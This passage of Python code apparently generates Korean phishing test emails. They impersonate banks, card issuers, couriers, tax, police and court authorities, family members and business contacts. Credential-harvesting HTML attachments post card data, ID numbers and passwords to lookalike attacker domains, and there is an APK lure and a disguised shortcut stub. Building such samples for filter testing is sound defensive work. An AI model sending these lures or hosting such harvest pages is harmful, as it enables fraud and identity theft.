  html='''<html><head><meta http-equiv="Content-Type" content="text/html; charset={CHARSET}"></head><body style="font-family:돋움;font-size:13px;">
<p><b>메일함 저장공간 부족 안내</b></p>
<p>사용량 : 14.7GB / 15GB (98%)</p>
<div style="width:300px;height:12px;background:#eee;"><div style="width:294px;height:12px;background:#e03;"></div></div>
<p>저장공간이 부족하여 새 메일이 <b>반송</b>되고 있습니다.<br>
무료 추가 용량(5GB)을 받으시려면 아래에서 계정 확인을 진행해 주세요.</p>
<p><a href="http://navermail-storage.xyz/storage/upgrade.php?u=mkjang">무료 용량 추가 받기</a></p>
</body></html>
''')

M('phish', '카카오계정 사칭 "새 기기 로그인 - 본인 아니면 차단" 버튼이 가짜 로그인으로 연결 (UTF-8 QP, 정상 알림과 유사)',
  frm=('Kakao', 'noreply@kakao-accounts-safe.com'), to=v(4), prov='kit', cs='UTF-8', cte='quoted-printable',
  subj='[카카오] 새로운 기기에서 카카오계정에 로그인했습니다',
  html='''<html><head><meta charset="{CHARSET}"></head><body style="font-family:sans-serif;font-size:14px;">
<div style="max-width:560px;margin:0 auto;padding:24px;">
<p style="background:#fee500;padding:10px;font-weight:bold;">kakao</p>
<p>카카오계정에 새로운 기기로 로그인되었습니다.</p>
<p>기기: Windows 10 / Chrome<br>위치: 중국 광둥성<br>일시: 2026년 10월 14일 02:41</p>
<p>본인이 아니라면 지금 바로 계정을 보호하세요. 보호 조치를 하지 않으면 카카오톡 대화와 카카오페이 잔액이 유출될 수 있습니다.</p>
<p><a href="https://accounts.kakao-accounts-safe.com/weblogin/protect?continue=talk" style="background:#191919;color:#fff;padding:10px 20px;text-decoration:none;">본인이 아닙니다 (계정 보호)</a></p>
</div></body></html>
''')

M('phish', '다음 메일 비밀번호 만료 사칭, 기존 비밀번호 유지 버튼 (EUC-KR, 한메일 사용자 대상)',
  frm=('Daum 고객센터', 'cs@daum-mail-auth.shop'), to=v(2), prov='kit', cs='euc-kr', cte='quoted-printable',
  subj='[Daum] 비밀번호 사용 기간이 만료되었습니다',
  html='''<html><head><meta http-equiv="Content-Type" content="text/html; charset={CHARSET}"></head><body style="font-family:돋움;font-size:13px;">
<p style="font-size:18px;color:#1a73e8;"><b>Daum</b></p>
<p>고객님의 비밀번호 사용 기간(180일)이 만료되었습니다.<br>
개인정보 보호를 위해 오늘 중으로 비밀번호를 변경하거나 기존 비밀번호를 유지해 주세요.</p>
<p><a href="http://daum-mail-auth.shop/login/keep.html">기존 비밀번호 유지하기</a> &nbsp;|&nbsp; <a href="http://daum-mail-auth.shop/login/change.html">비밀번호 변경하기</a></p>
<p style="font-size:11px;color:#888;">만료 후 48시간 이내 미조치 시 메일 서비스 이용이 일시 중지됩니다.</p>
</body></html>
''')

M('phish', 'KB국민은행 사칭 "OTP·보안카드 재등록" 요구, 보안매체 번호 전체 입력 유도 (ks_c, Outlook 흉내)',
  frm=('KB국민은행', 'security@kbstar-otp-renew.top'), to=v(3), prov='massmail', cs='ks_c_5601-1987',
  mailer='Microsoft Outlook 16.0', auth=dict(spf='softfail'),
  subj='[KB국민은행] 전자금융 보안 강화에 따른 보안매체 재등록 안내',
  html='''<html><head><meta http-equiv="Content-Type" content="text/html; charset={CHARSET}"></head><body>
<table width="600" cellpadding="14" style="font-family:'맑은 고딕';font-size:13px;border:1px solid #ddd;">
<tr><td style="background:#ffbc00;"><b>KB국민은행</b></td></tr>
<tr><td style="line-height:1.8;">고객님, 전자금융감독규정 개정(2026.11.01 시행)에 따라 기존 보안카드 및 OTP 등록 정보를 갱신해야 합니다.<br><br>
<b>11월 20일까지 재등록하지 않으시면 인터넷뱅킹 이체 한도가 0원으로 조정됩니다.</b><br><br>
재등록 시 필요 항목 : 주민등록번호, 출금계좌번호, 계좌 비밀번호, 보안카드 일련번호 및 전체 번호<br><br>
<a href="https://kbstar-otp-renew.top/quics?page=C025255">보안매체 재등록 바로가기</a></td></tr>
<tr><td style="font-size:11px;color:#888;">KB국민은행 고객센터 1588-9999</td></tr>
</table></body></html>
''')

M('phish', '신한은행 사칭 "이상거래 탐지로 계좌 거래 제한", 가짜 고객센터 번호로 전화 유도 (UTF-8 평문)',
  frm=('신한은행', 'notice@shinhan-secure-bnk.xyz'), to=v(5), prov='kit', fmt='plain',
  subj='[신한은행] 고객님 계좌가 이상거래 탐지로 일시 제한되었습니다',
  text='''[신한은행 이상거래 탐지 안내]

고객님 명의 계좌에서 타인 명의 휴대폰으로 비대면 계좌 개설 시도가 확인되어
금융사기 예방을 위해 계좌 거래가 일시 제한되었습니다.

- 제한 일시: 2026-11-09 08:14
- 제한 사유: 비대면 실명확인 불일치

본인이 요청하지 않은 경우 아래 전담 상담센터로 즉시 연락하시어
제한 해제 및 피해 예방 조치를 받으시기 바랍니다.

신한은행 금융사기 전담센터 : 02-6401-9375 (24시간)
※ 영업점 방문 시 처리가 지연될 수 있습니다.
''')

M('phish', '우리카드 사칭 해외 결제 승인 문자형 메일 - 본인 아니면 취소 전화, 가짜 상담원 보이스피싱 연계 (EUC-KR 평문)',
  frm=('우리카드', 'alert@wooricard-alert.cc'), to=v(7), prov='massmail', cs='euc-kr', fmt='plain', auth=dict(spf='none'),
  subj='[우리카드] 해외승인 1,289,000원 (Apple Store) 결제 안내',
  text='''[Web발신]
우리카드(5*1*) 해외승인
1,289,000원 일시불
Apple Store US
11/12 02:33

본인 결제가 아닌 경우 즉시 소비자보호센터로 취소 신청 바랍니다.
☎ 1533-42**
''')

M('phish', '삼성카드 사칭 이용대금명세서 - 보안메일을 가장한 HTML 첨부에서 카드번호·CVC·비밀번호 입력 요구',
  frm=('삼성카드', 'statement@samsungcard-statement.email'), to=v(10), prov='kit', cs='euc-kr',
  subj='[삼성카드] 2026년 11월 이용대금 명세서(보안메일)',
  html='''<html><head><meta http-equiv="Content-Type" content="text/html; charset={CHARSET}"></head><body>
<p style="font-family:'맑은 고딕';font-size:13px;">고객님의 11월 이용대금 명세서를 보안메일로 보내드립니다.<br>
첨부파일을 열어 본인 확인 후 명세서를 확인하시기 바랍니다.<br><br>
결제 예정 금액 : 2,847,300원<br>결제일 : 2026년 11월 25일</p>
<p style="font-family:'맑은 고딕';font-size:11px;color:#888;">삼성카드 고객센터 1588-8700</p></body></html>
''',
  atts=[HTMLATT('삼성카드_보안메일_202611.html', login_page(
      '삼성카드 보안메일 본인확인', '#1428a0', 'https://samsungcard-statement.email/secure/verify.php',
      [('birth', 'text', '생년월일 6자리'), ('cardno', 'text', '카드번호 16자리'), ('exp', 'text', '유효기간 (MM/YY)'),
       ('cvc', 'password', 'CVC 3자리'), ('pw', 'password', '카드 비밀번호 앞 2자리')],
      '고객님의 개인정보 보호를 위해 암호화되어 전송됩니다.'), style='2047')])

M('phish', '현대카드 사칭 포인트 소멸 전 현금 전환 안내, 카드 정보 입력 유도 (UTF-8, 단축 URL)',
  frm=('현대카드', 'm-point@hdcard-point.shop'), to=v(11), prov='kit',
  subj='[현대카드] 소멸 예정 M포인트 58,300P 현금 전환 신청 (오늘 마감)',
  html='''<html><head><meta charset="{CHARSET}"></head><body style="font-family:sans-serif;font-size:14px;">
<div style="max-width:520px;margin:0 auto;padding:20px;">
<p style="font-size:18px;"><b>M포인트 소멸 안내</b></p>
<p>고객님의 M포인트 <b>58,300P</b>가 오늘 자정 소멸 예정입니다.<br>
지금 신청하시면 1P = 1원으로 결제 계좌에 현금 입금해 드립니다.</p>
<p><a href="https://go-lnk.top/hdpt58" style="background:#000;color:#fff;padding:12px 28px;text-decoration:none;">현금 전환 신청</a></p>
<p style="font-size:11px;color:#888;">본인 확인을 위해 카드 정보 입력이 필요합니다.</p>
</div></body></html>
''')

M('phish', 'CJ대한통운 사칭 "주소 불일치로 보관 중" 택배 피싱, 재배송 수수료 소액 결제 유도 (EUC-KR)',
  frm=('CJ대한통운', 'delivery@cj-delivery-addr.top'), to=v(0), prov='kit', cs='euc-kr', cte='base64',
  subj='[CJ대한통운] 고객님의 택배가 주소 불일치로 보관 중입니다',
  html='''<html><head><meta http-equiv="Content-Type" content="text/html; charset={CHARSET}"></head><body>
<table width="560" cellpadding="10" style="font-family:'맑은 고딕';font-size:13px;border:1px solid #ddd;">
<tr><td style="border-bottom:3px solid #0073e9;"><b style="color:#0073e9;">CJ대한통운</b></td></tr>
<tr><td>고객님의 택배가 도로명 주소 불일치로 배송이 불가하여 물류센터에 보관 중입니다.<br><br>
운송장번호 : 5829-4410-7736<br>보관 기한 : 2026년 11월 12일까지 (기한 경과 시 반송)<br><br>
주소 수정 및 재배송 신청 시 재배송 수수료 <b>1,500원</b>이 부과됩니다.<br><br>
<a href="https://cj-delivery-addr.top/tracking/redeliver?no=582944107736">주소 수정 및 재배송 신청</a></td></tr>
</table></body></html>
''')

M('phish', '우체국택배 사칭 "반송 예정" 알림, 주소·카드 결제 입력 페이지 (UTF-8, 전형적 짧은 스미싱형)',
  frm=('우체국택배', 'info@epost-go-kr.xyz'), to=v(9), prov='kit', fmt='plain', cte='8bit',
  subj='[우체국] 등기소포 반송 예정 안내',
  text='''[우체국택배]
고객님 앞으로 발송된 등기소포(60914-****-2287)가
수취인 정보 불일치로 내일 반송 예정입니다.

수취 정보 확인 및 재배달 신청:
https://epost-go-kr.xyz/rd?k=2287

※ 재배달 수수료 2,300원이 부과됩니다.
''')

M('phish', '한진택배 사칭 해외직구 관세 미납 통관 보류, 개인통관고유부호·카드 입력 유도 (EUC-KR)',
  frm=('한진택배 통관팀', 'customs@hanjin-customs-pay.shop'), to=v(1), prov='kit', cs='euc-kr',
  subj='[한진택배] 해외직구 물품 관부가세 미납으로 통관 보류 중',
  html='''<html><head><meta http-equiv="Content-Type" content="text/html; charset={CHARSET}"></head><body style="font-family:돋움;font-size:13px;">
<p><b>[한진택배] 통관 보류 안내</b></p>
<p>고객님의 해외직구 물품이 관부가세 미납으로 인천세관에 통관 보류되었습니다.</p>
<p>- 운송장번호 : 4207-8816-3021<br>- 품목 : Electronic accessories<br>- 미납 세액 : 18,740원<br>- 납부 기한 : 3일 이내 (미납 시 폐기 처리)</p>
<p>개인통관고유부호 확인 후 세액을 납부해 주세요.<br>
<a href="https://hanjin-customs-pay.shop/unipass/pay?bl=420788163021">관부가세 납부하기</a></p>
</body></html>
''')

M('phish', '국세청 사칭 종합소득세 환급금 조회·신청 안내, 환급 계좌와 인증서 비밀번호 요구 (EUC-KR HTML)',
  frm=('국세청', 'refund@hometax-refund-kr.top'), to=v(2), prov='kit', cs='euc-kr', cte='base64',
  subj='[국세청] 2025년 귀속 종합소득세 미수령 환급금 안내 (387,420원)',
  html='''<html><head><meta http-equiv="Content-Type" content="text/html; charset={CHARSET}"></head><body>
<table width="620" cellpadding="12" style="font-family:굴림;font-size:13px;border:1px solid #b9c9de;">
<tr><td style="background:#1a3f7a;color:#fff;"><b>국세청 홈택스</b></td></tr>
<tr><td style="line-height:1.8;">귀하께서는 2025년 귀속 종합소득세 환급 대상자이나 환급금을 아직 수령하지 않으셨습니다.<br><br>
&nbsp;- 환급 예정 금액 : <b>387,420원</b><br>&nbsp;- 신청 기한 : 2026년 11월 30일<br><br>
기한 내 신청하지 않으면 환급금은 국고로 귀속됩니다.<br>
아래 링크에서 본인 인증 후 환급 계좌를 등록해 주십시오.<br><br>
<a href="https://www.hometax-refund-kr.top/websquare/refund.jsp">환급금 조회 및 신청하기</a></td></tr>
<tr><td style="font-size:11px;color:#666;">국세상담센터 126</td></tr>
</table></body></html>
''')

M('phish', '국세청 전자세금계산서 발급 통지 사칭, "세금계산서 보기" HTML 첨부가 메일 계정 로그인 수집 (회계 담당 대상)',
  frm=('국세청 e세로', 'etax@etax-nts-notice.com'), to=[('', 'acct@jinju-foods.example')], prov='kit', cs='UTF-8',
  subj='[국세청] 전자세금계산서 발급 통지 (공급자: (주)대성포장)',
  text='''전자세금계산서가 발급되었습니다.

공급자 : (주)대성포장
공급받는자 : 진주식품
작성일자 : 2026-11-16
합계금액 : 5,863,000원

첨부된 세금계산서를 열어 내용을 확인하시기 바랍니다.
(보안을 위해 수신 메일 계정으로 로그인 후 열람 가능)
''',
  atts=[HTMLATT('전자세금계산서_20261116_대성포장.html', login_page(
      '전자세금계산서 열람 - 메일 계정 확인', '#1a3f7a', 'https://etax-nts-notice.com/view/auth.php',
      [('email', 'email', '수신 메일 주소'), ('password', 'password', '메일 비밀번호')],
      '국세청 전자세금계산서 보안 열람 서비스'), style='2047')])

M('phish', '경찰청 사이버수사대 출석요구서 사칭 - 압축파일(ZIP) 안에 PDF로 위장한 바로가기 파일 (EUC-KR)',
  frm=('경찰청 사이버수사국', 'summons@police-cyber-summons.xyz'), to=v(3), prov='kit', cs='euc-kr',
  subj='[경찰청] 사이버 명예훼손 사건 관련 출석요구서 송부 (사건번호 2026-0****)',
  text='''귀하를 피고소인으로 하는 정보통신망법 위반(명예훼손) 사건이 접수되어
아래와 같이 출석을 요구합니다.

  사건번호 : 2026-0*****
  출석일시 : 2026. 11. 24.(화) 10:00
  출석장소 : 경찰청 사이버수사국 3층 조사실

자세한 내용은 첨부된 출석요구서를 확인하시기 바랍니다.
정당한 사유 없이 출석하지 않을 경우 체포영장이 청구될 수 있습니다.

담당 수사관 경위 김정훈
''',
  atts=[ZIP('출석요구서_2026-0xxxxx.zip', [
      ('출석요구서_2026형제1128호.pdf.lnk', b'L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F' + b'\x00' * 56 +
       b'inert test stub - not a functional shortcut'),
      ('사건개요.txt', '사건 개요는 출석요구서를 참고하십시오.'.encode('cp949'))])])

M('phish', '서울중앙지검 사칭 "명의도용 사건 조회" - 가짜 사건조회 사이트에서 개인정보·계좌 입력, 수사관 전화 연계 (UTF-8)',
  frm=('서울중앙지방검찰청', 'case@spo-case-inquiry.top'), to=v(4), prov='kit',
  subj='[서울중앙지방검찰청] 귀하 명의 대포통장 개설 사건 관련 확인 요청',
  html='''<html><head><meta charset="{CHARSET}"></head><body style="font-family:sans-serif;font-size:14px;line-height:1.8;">
<p><b>서울중앙지방검찰청 금융범죄수사부</b></p>
<p>귀하 명의로 개설된 계좌가 대규모 금융사기 사건에 이용된 정황이 확인되어 연락드립니다.<br>
귀하가 피해자인지 공범인지 확인하기 위해 <b>오늘 중</b> 사건 조회 및 본인 확인 절차를 진행하셔야 합니다.</p>
<p><a href="https://www.spo-case-inquiry.top/case/2026/check">나의 사건 조회</a></p>
<p>본 사건은 수사 중인 사안으로 <b>가족 및 지인에게 알리면 수사 방해로 처벌</b>될 수 있습니다.<br>
담당 수사관 : 박민철 수사관 (02-530-39**)</p>
</body></html>
''')

M('phish', '정부24 사칭 교통법규 위반 과태료 고지, 납부 링크 (EUC-KR, QP)',
  frm=('정부24', 'notice@gov24-fine-notice.shop'), to=v(5), prov='kit', cs='euc-kr', cte='quoted-printable',
  subj='[정부24] 교통법규 위반 과태료 사전통지 (미납 시 가산금 부과)',
  html='''<html><head><meta http-equiv="Content-Type" content="text/html; charset={CHARSET}"></head><body style="font-family:돋움;font-size:13px;">
<p><b>교통법규 위반 과태료 사전통지서</b></p>
<p>위반일시 : 2026-10-29 18:42<br>위반장소 : 서울 강서구 공항대로 OO교차로<br>위반내용 : 신호위반 (무인단속)<br>과태료 : 70,000원 (사전납부 시 20% 감경 56,000원)</p>
<p>위반 사진 확인 및 납부 : <a href="https://gov24-fine-notice.shop/fine/view?id=20261029-8841">과태료 조회/납부</a></p>
<p style="font-size:11px;color:#888;">납부기한 경과 시 가산금이 부과되며 차량 압류 등 체납처분이 진행될 수 있습니다.</p>
</body></html>
''')

M('phish', '국민건강보험 사칭 "건강검진 결과 확인/본인부담금 환급" - 모바일 앱(APK) 설치 링크 (UTF-8 평문)',
  frm=('국민건강보험공단', 'info@nhis-refund-center.top'), to=v(6), prov='kit', fmt='plain', cte='base64',
  subj='[국민건강보험] 본인부담상한액 초과금 환급 대상 안내',
  text='''[국민건강보험공단]
귀하는 2025년도 본인부담상한액 초과금 환급 대상자입니다.

환급 예정액 : 412,600원
신청 기한 : 2026년 11월 27일

아래 전용 앱을 설치하신 후 본인 인증을 완료하시면
등록하신 계좌로 3일 이내 환급됩니다.

앱 설치 : https://nhis-refund-center.top/app/nhis_refund.apk
''')

M('phish', '쿠팡 사칭 "비정상 결제 감지, 계정 일시정지" - 가짜 로그인·카드 재인증 (UTF-8 HTML)',
  frm=('쿠팡', 'security@coupang-account-help.com'), to=v(10), prov='kit', dkim=True,
  subj='[쿠팡] 고객님 계정에서 비정상 결제가 감지되어 일시 정지되었습니다',
  html='''<html><head><meta charset="{CHARSET}"></head><body style="font-family:sans-serif;font-size:14px;">
<div style="max-width:600px;margin:0 auto;">
<p style="font-size:20px;font-weight:bold;">계정 보호를 위해 이용이 일시 정지되었습니다</p>
<p>고객님의 쿠팡 계정에서 평소와 다른 결제 시도가 감지되었습니다.</p>
<p>주문 상품 : Apple 맥북 에어 15 M4 (2대)<br>결제 금액 : 3,980,000원<br>결제 수단 : 쿠페이 카드</p>
<p>본인이 주문하지 않았다면 30분 이내 본인 확인 후 결제를 취소해 주세요.</p>
<p><a href="https://login.coupang-account-help.com/verify?order=2100187722" style="background:#346aff;color:#fff;padding:12px 24px;text-decoration:none;">본인 확인 및 결제 취소</a></p>
</div></body></html>
''')

M('phish', '토스 사칭 "송금 보류 - 수취 확인 필요" 알림, 수취인에게 로그인·OTP 입력 유도 (UTF-8)',
  frm=('토스', 'transfer@toss-transfer-hold.top'), to=v(11), prov='kit',
  subj='김민정님이 보낸 350,000원이 보류 중이에요',
  html='''<html><head><meta charset="{CHARSET}"></head><body style="font-family:sans-serif;">
<div style="max-width:460px;margin:0 auto;padding:28px;font-size:15px;line-height:1.7;">
<p style="font-size:20px;font-weight:700;">350,000원 송금이 보류됐어요</p>
<p>김민정님이 보낸 돈이 수취인 확인 절차 때문에 보류되었어요.<br>24시간 안에 받지 않으면 자동으로 반환돼요.</p>
<p><a href="https://toss-transfer-hold.top/receive?tx=TS88213" style="display:block;text-align:center;background:#3182f6;color:#fff;border-radius:12px;padding:14px;text-decoration:none;">돈 받기</a></p>
</div></body></html>
''')

M('phish', '가족 사칭 "엄마 나야" 메신저 피싱 - 폰 고장으로 임시 메일, 카톡 추가 및 문화상품권 요구 (gmail, 짧음)',
  frm=('', 'jiwon.help0923@gmail.com'), to=v(10), prov='gmail', he='B',
  subj='엄마 나야',
  text='''엄마 나 지원이
폰 액정 깨져서 수리 맡겼어 ㅠㅠ 임시로 컴퓨터로 메일 보내
지금 급하게 처리할게 있는데 엄마 카톡으로 이 아이디 추가해줄수 있어?
아이디 jiwon_temp22

그리고 문화상품권 10만원짜리 3장만 사서 번호 사진 찍어서 보내줄 수 있어?
오늘까지 결제해야 되는게 있는데 폰이 안돼서 ㅠ 나중에 바로 갚을게
''')

M('phish', '딸 사칭 메신저 피싱 - 아버지에게 휴대폰 보험 처리용 신분증 사진과 계좌 비밀번호 요구 (naver 무료메일, 평문)',
  frm=('서예린', 'yerin_s0412@naver.com'), to=[('', 'jg.seo55@haneul-mail.test')],
  prov='naver', fmt='html',
  subj='아빠 나 예린이야 급해',
  text='''아빠 나 예린이
폰이 물에 빠져서 고장났어 지금 수리점이야
보험 처리하려면 아빠 명의로 된 거라 신분증 사진이 필요하대
신분증 앞뒤 사진이랑 아빠 계좌번호 비밀번호 4자리도 같이 보내줘
수리점 아저씨가 바로 처리해준대

내 폰 안되니까 전화하지 말고 이 메일로만 답장해줘
''')

M('phish', '거래처 경리 사칭 BEC - 한 글자 바뀐 유사 도메인(hanrnail)에서 "주거래 은행 변경" 계좌 변경 요청 (EUC-KR, 이전 스레드 인용 흉내)',
  frm=('동해수산 경리 정미숙', 'donghae_susan@hanrnail.net'), to=[NS], prov='kit', cs='euc-kr', fmt='plain',
  reply='hanmail.net', out_host='mail.hanrnail.net',
  subj='RE: 10월분 거래대금 입금 요청드립니다 (동해수산)',
  text='''남궁선희 주임님 안녕하세요.
동해수산 정미숙입니다.

지난번 메일로 안내드린 10월분 거래대금 관련해서 급히 연락드립니다.
저희 회사 주거래 은행이 이번 달부터 변경되어 기존 농협 계좌는 정산용으로
더 이상 사용하지 않게 되었습니다.

이번 대금(12,644,000원)부터는 아래 계좌로 입금 부탁드립니다.
  은행 : 신협
  계좌 : 131-021-58****
  예금주 : 동해수산 (정상철)

사장님이 출장 중이셔서 전화 통화는 어려우니 메일로 회신 주시면 됩니다.
입금 후 이체확인증 보내주시면 감사하겠습니다.

정미숙 드림

-----Original Message-----
From: 동해수산 경리 정미숙
Subject: 10월분 거래대금 입금 요청드립니다 (동해수산)
''')

M('phish', 'CEO 사칭 송금 지시 - 대표 이름과 유사 도메인으로 재무팀에 비밀 인수 건 급송금 요청 (Reply-To 다름, ks_c)',
  frm=('한지혜', 'jihye.han@hanbit-tech-mail.com'), to=[JH], reply_to=('한지혜', 'ceo.jihye.han@secure-inbox.top'),
  prov='kit', cs='ks_c_5601-1987', fmt='plain', mailer='iPhone Mail (23B85)', when=(11, 18, 13, 52),
  subj='급한 건 (보안 유지)',
  text='''박 팀장님

지금 외부 미팅 중이라 전화가 어렵습니다.
진행 중인 M&A 건 관련해서 오늘 오후 3시 전까지 계약금 송금이 필요합니다.
아직 공시 전이라 다른 직원들에게는 절대 말하지 말아 주세요.

금액은 48,500,000원이고 받는 곳 계좌는 회신 주시면 바로 보내드리겠습니다.
처리 가능하시면 이 메일로만 답장 주세요.

한지혜
iPhone에서 보냄
''')

M('phish', '포장재 거래처를 가장한 수정 세금계산서 통지 - "스마트빌" 유사 도메인, HTML 첨부로 계정 수집',
  frm=('스마트빌', 'noreply@smartbil-notice.com'), to=[('', 'purchase@jinju-foods.example')], prov='kit', cs='euc-kr',
  subj='[스마트빌] (주)대성포장에서 수정전자세금계산서를 발행하였습니다.',
  html='''<html><head><meta http-equiv="Content-Type" content="text/html; charset={CHARSET}"></head>
<body style="font-family:돋움;font-size:12px;">
<table width="600" cellpadding="10" style="border:1px solid #d6d6d6;">
<tr><td style="background:#0b4ea2;color:#fff;font-size:15px;"><b>수정전자세금계산서 발행 안내</b></td></tr>
<tr><td style="line-height:1.7;">(주)대성포장에서 기존 발행분에 대한 수정전자세금계산서를 발행하였습니다.<br>
수정사유 : 공급가액 변동 (단가 인상분 반영)<br>합계금액 : 6,412,000원<br><br>
첨부된 파일을 열어 확인 후 승인 처리해 주시기 바랍니다.</td></tr></table></body></html>
''',
  atts=[HTMLATT('수정세금계산서_대성포장_20261118.htm', login_page(
      'SmartBill 문서 열람', '#0b4ea2', 'https://smartbil-notice.com/xWebTax/auth.php',
      [('id', 'text', '이메일 주소'), ('pw', 'password', '비밀번호')],
      '문서를 보려면 수신한 이메일 계정으로 로그인하세요.'), style='2047')])

M('phish', '해외 바이어 견적 요청 위장 - "견적요청서" HTML 첨부가 웹메일 로그인 피싱 (영문+한국어, 식품회사 대상)',
  frm=('Ahmed Al-Rashid', 'purchasing@gulf-trade-sourcing.top'), to=[HJ], prov='kit', fmt='plain',
  subj='RFQ - 한국 식품 수입 견적 요청 / Request for Quotation',
  text='''Dear Sir/Madam,

We are a food importer in Dubai, UAE and interested in your beef jerky products.
Please check the attached RFQ and send us your best price (FOB Busan).

안녕하세요. 저희는 두바이 식품 수입회사입니다.
첨부한 견적요청서 확인 후 최저 단가를 보내주시기 바랍니다.
첨부파일은 보안 문서로 이메일 로그인 후 열람 가능합니다.

Best regards,
Ahmed Al-Rashid
Purchasing Manager
''',
  atts=[HTMLATT('RFQ_견적요청서_2026-1120.html', login_page(
      'Secure Document - Sign in to view RFQ', '#0072c6', 'https://gulf-trade-sourcing.top/docs/rfq/login.php',
      [('email', 'email', 'Email address'), ('password', 'password', 'Password')],
      'Document protected by Secure Viewer. 이메일 계정으로 로그인하세요.'), style='2231')])

M('phish', 'Microsoft 365 비밀번호 만료 사칭 - 회사 도메인 이름을 넣은 가짜 관리자 메일, 유사 로그인 링크 (한국어)',
  frm=('hanbit-tech.example 관리자', 'admin@hanbit-tech-o365.top'), to=[SY], prov='kit', cs='UTF-8', cte='quoted-printable',
  subj='seoyeon.lee@hanbit-tech.example 비밀번호가 오늘 만료됩니다',
  html='''<html><head><meta charset="{CHARSET}"></head><body style="font-family:'Segoe UI','맑은 고딕',sans-serif;font-size:14px;">
<div style="max-width:560px;border:1px solid #ddd;padding:24px;">
<p style="font-size:18px;">Microsoft 365</p>
<p><b>seoyeon.lee@hanbit-tech.example</b> 계정의 비밀번호가 <b>오늘</b> 만료됩니다.</p>
<p>아래 버튼을 눌러 현재 비밀번호를 유지하거나 새 비밀번호로 변경하세요. 만료 후에는 Outlook, Teams 로그인이 제한됩니다.</p>
<p><a href="https://login.hanbit-tech-o365.top/common/oauth2/keep?u=seoyeon.lee" style="background:#0067b8;color:#fff;padding:10px 22px;text-decoration:none;">현재 비밀번호 유지</a></p>
<p style="font-size:11px;color:#777;">hanbit-tech.example IT 관리자 | 이 메시지는 자동 발송되었습니다.</p>
</div></body></html>
''')

M('phish', 'QR코드 피싱(퀴싱) - 회사 보안 정책이라며 MFA 재등록을 위한 QR 이미지 인라인, 링크 텍스트 없음',
  frm=('정보보안팀', 'security-team@hanbit-tech-mfa.top'), to=[DY], prov='kit', cs='euc-kr',
  subj='[필수] 2단계 인증(MFA) 재등록 안내 - 11월 21일까지',
  html='''<html><head><meta http-equiv="Content-Type" content="text/html; charset={CHARSET}"></head><body style="font-family:'맑은 고딕';font-size:13px;">
<p>임직원 여러분,</p>
<p>사내 보안 정책 강화에 따라 모든 임직원은 <b>11월 21일(금)까지</b> 2단계 인증(MFA)을 재등록해야 합니다.<br>
기한 내 재등록하지 않은 계정은 메일 및 VPN 접속이 차단됩니다.</p>
<p>휴대폰 카메라로 아래 QR코드를 스캔하여 재등록을 완료해 주세요.</p>
<p><img src="cid:mfa_qr" width="148" height="148" alt="QR"></p>
<p>정보보안팀 드림</p></body></html>
''',
  inline=[att('qr.png', png_qr('mfa-hanbit'), 'image/png', disp='inline', cid='mfa_qr')])

M('phish', 'QR코드 피싱 - 주정차 위반 과태료 고지서 형식의 PDF 대신 PNG 첨부 QR, 본문은 짧은 고지 (UTF-8 base64)',
  frm=('마포구 주정차단속', 'parking@mapo-fine-notice.top'), to=v(9), prov='kit',
  subj='주정차 위반 과태료 부과 사전통지서 (QR 납부)',
  text='''주정차 위반 과태료 부과 사전통지

차량번호 : 12가 ****
위반일시 : 2026-11-03 14:22
위반장소 : 마포구 월드컵로 OO 앞
과태료 : 40,000원 (의견진술기한 내 자진납부 시 32,000원)

첨부된 고지서의 QR코드를 휴대폰으로 스캔하면 위반 사진 확인 및 간편 납부가 가능합니다.
''',
  atts=[PNG('과태료_사전통지서_QR.png', png_qr('parking-fine'))])

M('phish', '카카오페이 사칭 "송금 도착 - 받기 전 본인확인" 알림, 카카오 로그인 수집 (UTF-8 HTML)',
  frm=('카카오페이', 'pay@kakaopay-receive.shop'), to=v(0), prov='kit',
  subj='[카카오페이] 박지민님이 120,000원을 보냈습니다',
  html='''<html><head><meta charset="{CHARSET}"></head><body style="font-family:sans-serif;">
<div style="max-width:420px;margin:0 auto;padding:24px;font-size:15px;">
<p style="background:#ffeb00;padding:10px;font-weight:bold;">pay</p>
<p><b>박지민</b>님이 송금했어요</p>
<p style="font-size:28px;font-weight:bold;">120,000원</p>
<p>메시지: "지난번 밥값 고마워~"</p>
<p><a href="https://kakaopay-receive.shop/money/receive?t=KP77012" style="display:block;text-align:center;background:#ffeb00;color:#000;padding:12px;text-decoration:none;border-radius:8px;">받기</a></p>
<p style="font-size:12px;color:#999;">48시간 내 받지 않으면 자동으로 돌려보내져요.</p>
</div></body></html>
''')

M('phish', '네이버페이 포인트 적립 이벤트 사칭, 포인트 받기 위해 네이버 로그인 요구 (EUC-KR)',
  frm=('네이버페이', 'event@npay-point-gift.xyz'), to=v(1), prov='kit', cs='euc-kr',
  subj='[네이버페이] 연말 감사 포인트 30,000원이 지급 대기 중입니다',
  html='''<html><head><meta http-equiv="Content-Type" content="text/html; charset={CHARSET}"></head><body style="font-family:돋움;font-size:13px;">
<p style="color:#03c75a;font-size:18px;"><b>N Pay</b></p>
<p>2026 연말 감사 이벤트에 당첨되셨습니다!<br>네이버페이 포인트 <b>30,000원</b>이 지급 대기 중입니다.</p>
<p>12월 1일까지 네이버 로그인 후 포인트를 받아 주세요.</p>
<p><a href="https://npay-point-gift.xyz/nid/login?ret=point">포인트 받기</a></p>
</body></html>
''')

M('phish', '법원 전자소송 사칭 "소장 부본 송달" - 소장 보기 HTML 첨부에서 본인인증·휴대폰 인증번호 수집 (EUC-KR)',
  frm=('대한민국 법원 전자소송', 'ecfs@ecfs-scourt-notice.top'), to=v(5), prov='kit', cs='euc-kr', cte='base64',
  subj='[전자소송] 소장 부본 송달 안내 (2026가소3*****)',
  text='''귀하를 피고로 하는 민사소송(대여금 청구)이 제기되어 소장 부본을 송달합니다.

  사건번호 : 2026가소3*****
  원고 : 주식회사 OO캐피탈
  청구금액 : 8,420,000원

첨부된 소장 부본을 확인하시고 송달받은 날부터 30일 이내에 답변서를 제출하시기 바랍니다.
답변서를 제출하지 않으면 변론 없이 원고 승소 판결이 선고될 수 있습니다.
''',
  atts=[HTMLATT('소장부본_2026가소3xxxxx.html', login_page(
      '전자소송 송달문서 열람 - 본인인증', '#003366', 'https://ecfs-scourt-notice.top/sd/verify.do',
      [('name', 'text', '성명'), ('rrn', 'text', '주민등록번호 13자리'), ('phone', 'text', '휴대폰 번호'),
       ('sms', 'text', '인증번호')], '송달문서는 본인인증 후 열람하실 수 있습니다.'), style='2047')])

M('phish', '부고 사칭 피싱 - 지인 부고장처럼 꾸민 링크가 악성 앱 설치 페이지로 연결 (UTF-8 평문, 아주 짧음)',
